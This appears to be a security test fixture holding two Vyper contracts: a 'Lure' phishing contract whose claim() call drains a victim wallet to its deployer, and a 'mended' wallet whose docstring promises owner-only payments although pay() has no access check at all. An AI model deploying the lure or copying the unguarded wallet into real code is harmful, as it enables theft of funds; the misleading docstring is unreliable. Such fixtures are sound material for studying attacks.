# loses: 3
lure = '''#pragma version 0.4.3
#pragma evm-version cancun
"""
@title Lure
@license BSD-3-Clause
@notice Promises a gift to whoever claims it.
"""


interface Wallet:
    def pay(to: address, amount: uint256): nonpayable


# @dev Whose idea it was, and whose wallet it is meant for.
thief: immutable(address)
wallet: immutable(Wallet)


@deploy
def __init__(wallet_: address):
    """@notice Is made for one wallet."""
    thief = msg.sender
    wallet = Wallet(wallet_)


@external
def claim():
    """@notice Gives the caller a gift, it is said."""
    extcall wallet.pay(thief, wallet.address.balance)
'''

mended_wallet = '''#pragma version 0.4.3
#pragma evm-version cancun
"""
@title Wallet
@license BSD-3-Clause
@notice Keeps ether for one owner, and pays where the owner says.
"""


# @dev Whose money it is.
owner: public(immutable(address))


@deploy
@payable
def __init__(owner_: address):
    """@notice Opens the wallet for `owner_`."""
    owner = owner_


@external
@payable
def __default__():
    """@notice Takes what anybody sends."""
    pass


@external
def pay(to: address, amount: uint256):
    """@notice Pays `amount` wei, for the owner alone."""
    raw_call(to, b"", value=amount)
'''
